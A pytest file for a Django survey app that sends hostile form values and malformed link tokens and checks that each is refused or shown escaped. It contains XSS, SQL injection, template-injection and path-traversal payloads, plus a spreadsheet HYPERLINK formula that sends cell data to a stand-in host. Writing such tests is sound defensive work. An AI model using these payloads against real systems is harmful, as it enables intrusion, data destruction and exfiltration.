"""Hostile inputs against the pages of those who answer: a sentence, never a trace, nothing kept.

The numbers are those of the list of hostile inputs of the project (SECURITY, chapter 5).
"""

import html

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from surveys.actions import campaigns
from surveys.links import link_of
from surveys.models import Answer, AnswerSheet, Campaign, Invitation
from surveys.queries.results import results_of
from surveys.states import CampaignState, QuestionKind
from tests import people
from tests.factories.surveys import CampaignFactory, InvitationFactory, QuestionFactory

pytestmark = pytest.mark.django_db

FINE = {"request": "Помогите с алгеброй", "mark": "7", "ways": ["talk"]}

# name, what is sent beside or instead of a fine answer, the status
SENT = [
    ("H-T02 a zero byte", {"request": "Алге\x00бра"}, 422),
    ("H-T05 only spaces", {"request": "   \u00a0 "}, 422),
    ("H-T07 a megabyte", {"request": "a" * 1_000_000}, 422),
    ("H-T08 a letter of two signs", {"request": "Мои\u0306 вопрос"}, 302),
    ("H-T11 an emoji", {"request": "Хорошо 😀"}, 302),
    ("H-N17 a mark above the scale", {"mark": "11"}, 422),
    ("H-N17 a mark below the scale", {"mark": "-1"}, 422),
    ("H-N17 no number", {"mark": "NaN"}, 422),
    ("H-N17 infinity", {"mark": "Infinity"}, 422),
    ("H-N18 forty digits", {"mark": "7" * 40}, 422),
    ("H-N04 another alphabet of digits", {"mark": "٣"}, 422),
    ("H-N18 a number with an exponent", {"count": "1e308"}, 422),
    ("H-N12 a day that is none", {"day": "2026-02-30"}, 422),
    ("H-N12 a day in disorder", {"day": "99999-01-01"}, 422),
    ("a choice that was not offered", {"ways": ["fly"]}, 422),
    ("a choice beside one that was not offered", {"ways": ["talk", "' OR 1=1--"]}, 422),
    ("H-X01 a script", {"request": "<script>alert(1)</script>"}, 302),
    ("H-X01 a picture", {"request": '"><img src=x onerror=alert(1)>'}, 302),
    ("H-X02 a template", {"request": "{{ 7*7 }}{% debug %}${7*7}#{7*7}"}, 302),
    ("H-X03 a format", {"request": "{0.__class__} %(name)s {user.password}"}, 302),
    ("H-X08 a link of a script", {"request": "[x](javascript:alert(1))"}, 302),
    ("H-I01 an injection", {"request": "'; DROP TABLE surveys_answer;--"}, 302),
    ("H-I01 a sleep", {"request": "' || pg_sleep(5)--"}, 302),
    ("H-I03 fields of others", {"state": "closed", "campaign": "1", "is_staff": "on"}, 302),
    ("H-I03 the sheet of another", {"invitation": "1", "person": "1", "sheet": "1"}, 302),
    ("H-I05 a line for the log", {"request": "x\n2026-11-01 INFO login ok admin"}, 302),
    ("H-I07 JSON", {"request": '{"a":NaN,"b":"\\ud800"}'}, 302),
    ("H-I08 brackets", {"request": "[" * 3000}, 302),
    ("a formula", {"request": '=HYPERLINK("http://ev?"&A1)'}, 302),
    ("H-P07 more than a thousand fields", {f"f{n}": "1" for n in range(1100)}, 400),
]

ADDRESSES = [
    ("H-A10 truncated", lambda token: token[:-1], 404),
    ("H-A10 swapped case", lambda token: token.swapcase(), 404),
    ("H-A10 another number", lambda token: f"9{token}", 404),
    ("H-A10 no signature", lambda token: token.split(".")[0], 404),
    (
        "H-A15 of another purpose",
        lambda token: f"{token.split('.')[0]}-x.{token.split('.')[1]}",
        404,
    ),
    ("H-N02 five thousand digits", lambda token: "9" * 5000 + ".x", 404),
    ("H-T01 a zero byte", lambda token: f"{token}%00", 400),
    ("H-T14 not UTF-8", lambda token: f"{token}%FF%FE", 404),
    ("a folder above", lambda token: "..%2f..%2fetc%2fpasswd", 404),
    ("markup", lambda token: "%3Cscript%3E", 404),
]

METHODS = ["PUT", "DELETE", "PATCH", "TRACE", "BREW"]


@pytest.fixture
def invitation():
    """Somebody is asked a text, a mark, ways, a number and a day."""
    campaign = CampaignFactory()
    facts = {"questionnaire": campaign.questionnaire}
    QuestionFactory(**facts, code="count", kind=QuestionKind.NUMBER)
    QuestionFactory(**facts, code="day", kind=QuestionKind.DATE)
    return InvitationFactory(campaign=campaign)


def path_of(invitation):
    """Where the personal link leads."""
    return "/" + link_of(invitation).split("/", 3)[3]


@pytest.mark.parametrize(("sent", "status"), [case[1:] for case in SENT], ids=[c[0] for c in SENT])
def test_what_is_sent_is_kept_whole_or_refused_with_words(invitation, sent, status):
    answer = Client(raise_request_exception=False).post(path_of(invitation), {**FINE, **sent})

    assert answer.status_code == status
    assert AnswerSheet.objects.filter(state="submitted").exists() is (status == 302)
    assert Invitation.objects.count() == 1
    assert Campaign.objects.get().state == CampaignState.OPEN
    assert "Traceback" not in answer.text
    if status == 422:
        assert "error-summary" in answer.text


@pytest.mark.parametrize(
    "text", [case[1]["request"] for case in SENT if case[2] == 302 and "request" in case[1]]
)
def test_what_was_sent_is_shown_as_letters(invitation, sign_in, text):
    Client().post(path_of(invitation), {**FINE, "request": text})
    client = sign_in(people.curator())

    pages = [
        client.get(reverse("campaign-results", args=[invitation.campaign_id])),
        client.get(reverse("answer-sheet", args=[AnswerSheet.objects.get().pk])),
    ]

    (kept,) = [one for one in results_of(invitation.campaign).results if one.texts]
    for shown in pages:
        assert shown.status_code == 200
        assert html.escape(kept.texts[0].split("\n")[0])[:200] in shown.text
        assert "<script>alert" not in shown.text
        assert "<img src=x" not in shown.text


@pytest.mark.parametrize(
    ("change", "status"), [case[1:] for case in ADDRESSES], ids=[case[0] for case in ADDRESSES]
)
def test_a_link_that_is_not_true_shows_nothing(invitation, change, status):
    token = path_of(invitation).rstrip("/").split("/")[-1]

    answer = Client(raise_request_exception=False).get(f"/surveys/a/{change(token)}/")

    assert answer.status_code == status
    assert invitation.person.last_name not in answer.text
    assert "Traceback" not in answer.text


@pytest.mark.parametrize("method", METHODS)
def test_other_methods_are_refused(invitation, method):
    answer = Client(raise_request_exception=False).generic(method, path_of(invitation))

    assert answer.status_code == 405


def test_a_form_without_its_secret_is_refused(invitation):
    answer = Client(enforce_csrf_checks=True).post(path_of(invitation), FINE)

    assert answer.status_code == 403
    assert not Answer.objects.exists()


def test_a_link_that_is_passed_on_is_accepted_once(invitation):
    answers = [Client().post(path_of(invitation), FINE).status_code for _pupil in range(25)]

    assert answers == [302] + [200] * 24
    assert AnswerSheet.objects.count() == 1


def test_after_the_end_nothing_is_taken(invitation):
    campaigns.close_campaign(invitation.campaign, by=people.curator(), now=timezone.now())

    answer = Client().post(path_of(invitation), FINE)

    assert answer.status_code == 410
    assert not Answer.objects.exists()
